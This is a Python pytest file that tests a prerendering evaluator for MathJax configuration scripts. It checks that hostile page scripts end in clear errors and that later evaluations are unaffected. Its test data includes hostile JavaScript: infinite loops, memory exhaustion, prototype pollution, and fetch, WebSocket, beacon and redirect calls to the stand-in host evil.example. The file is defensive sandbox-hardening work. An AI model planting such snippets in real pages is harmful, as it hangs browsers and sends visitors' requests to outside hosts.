"""Configurations that mean harm end in a clear error; the next page is none the worse for it."""

from __future__ import annotations

import time
from typing import Protocol

import pytest

from prerender.setup import Setup, SetupError

TOO_LONG = "runs for more than 2 s"


class Evaluates(Protocol):
    def setup(self, html: str, files: dict[str, str] | None = None) -> Setup: ...
    def contexts(self) -> int: ...


HOSTILE = {
    "endless loop": ("MathJax = {}; for (;;);", TOO_LONG),
    "endless promise": ("MathJax = {}; Promise.resolve().then(() => { for (;;); })", TOO_LONG),
    "endless listener": ("addEventListener('load', () => { for (;;); }); MathJax = {}", TOO_LONG),
    "endless task": (
        "MathJax = {}; c = new MessageChannel(); c.port1.onmessage = () => { for (;;); };"
        " c.port2.postMessage(1)",
        "not come to an end",
    ),
    "endless getter": ("MathJax = {get tex() { for (;;); }}", "getter"),
    "endless proxy": ("MathJax = new Proxy({}, {ownKeys() { for (;;); }})", TOO_LONG),
    "endless hook": ("MathJax = {startup: {ready() { for (;;); }}}; for (;;);", TOO_LONG),
    "huge object": (
        "MathJax = {m: {}}; for (let i = 0; i < 2e5; i++) MathJax.m['a' + i] = 'x'", "larger",
    ),
    "huge string": ("MathJax = {x: 'x'.repeat(3e8)}", "larger"),
    "cycle": ("MathJax = {}; MathJax.a = MathJax", "nested"),
    "false function": ("MathJax = {tex: {tagformat: {tag: {$function: 'x'}}}}", "function"),
    "fetch": ("MathJax = {}; fetch('https://evil.example/')", "network"),
    "fetch in disguise": ("MathJax = {}; try { fetch('/') } catch (e) {}", "network"),
    "XMLHttpRequest": (
        "MathJax = {}; x = new XMLHttpRequest; x.open('GET', '/'); x.send()", "network",
    ),
    "WebSocket": ("MathJax = {}; new WebSocket('wss://evil.example')", "network"),
    "beacon": ("MathJax = {}; navigator.sendBeacon('https://evil.example/', 1)", "network"),
    "location": ("MathJax = {}; location = 'https://evil.example/'", "leaves the page"),
    "location later": ("MathJax = {}; setTimeout(() => location.assign('/x'))", "leaves the page"),
    "window": ("MathJax = {}; open('https://evil.example/')", "opens a window"),
    "Object.prototype": ("Object.prototype.inlineMath = [['!', '!']]; MathJax = {}", "prototype"),
    "JSON": ("JSON.stringify = () => '{}'; MathJax = {}", "JSON"),
}  # fmt: skip


@pytest.mark.parametrize(("script", "message"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_clear_error_for_that_page_only(evaluator: Evaluates, script: str, message: str) -> None:
    begun = time.monotonic()
    with pytest.raises(SetupError, match=message):
        evaluator.setup(f"<script>{script}</script>")
    assert time.monotonic() - begun < 15
    assert evaluator.contexts() == 0
    setup = evaluator.setup("<script>MathJax = {tex: {tags: 'all'}}</script>")
    assert setup.tex["tags"] == "all"


@pytest.mark.parametrize(
    "script",
    [
        "toJSON = () => 1; MathJax = {toJSON() { return 1 }, tex: {tags: 'all'}}",
        "Array.prototype.toJSON = () => 1; MathJax = {tex: {tags: 'all'}}",
        "Object.keys = Reflect.ownKeys = () => []; MathJax = {tex: {tags: 'all'}}",
        "String.prototype.replace = () => ''; MathJax = {tex: {tags: 'all'}}",
        "Object.defineProperty(Array.prototype, 0, {set() { throw 1 }});"
        "MathJax = {tex: {tags: 'all'}}",
        "alert(1); confirm(2); MathJax = {tex: {tags: 'all'}}",
    ],
)  # fmt: skip
def test_tricks_without_effect(evaluator: Evaluates, script: str) -> None:
    assert evaluator.setup(f"<script>{script}</script>").tex["tags"] == "all"


def test_answers_that_are_made_up(evaluator: Evaluates) -> None:
    html = (
        "<script>Array.prototype.join = () => '!'; Array.prototype.toString = () => '!';</script>"
    )
    with pytest.raises(SetupError, match="breaks the evaluation"):
        evaluator.setup(html.replace("</script>", "MathJax = {}</script>"))


def test_any_values_at_all(evaluator: Evaluates) -> None:
    """Options of the wrong types are as good as none."""
    tex = "{inlineMath: 5, macros: [], packages: {'[+]': 7}, tags: {}}"
    odd = f"{{tex: {tex}, options: null, startup: 1}}"
    setup = evaluator.setup(f"<script>MathJax = {odd}; MathJax.loader = [1]</script>")
    assert setup.tex["tags"] == "none"
    for name in ("tex2jax", "TeX", "jax", "extensions", "displayAlign", "elements"):
        config = f"MathJax.Hub.Config({{{name}: [[{{}}], 3, null]}})"
        evaluator.setup(f"<script type=text/x-mathjax-config>{config}</script>")
    evaluator.setup(
        "<script src=/katex.min.js></script><script>"
        "renderMathInElement(document.body, {delimiters: [1, {left: ''}], macros: 3,"
        " ignoredTags: {}})"
        "</script>"
    )


def test_requests_of_a_themes_file_are_refused_quietly(evaluator: Evaluates) -> None:
    files = {"/theme.js": "MathJax = {tex: {tags: 'all'}}; fetch('/search.json')"}
    assert evaluator.setup("<script src=/theme.js></script>", files).tex["tags"] == "all"
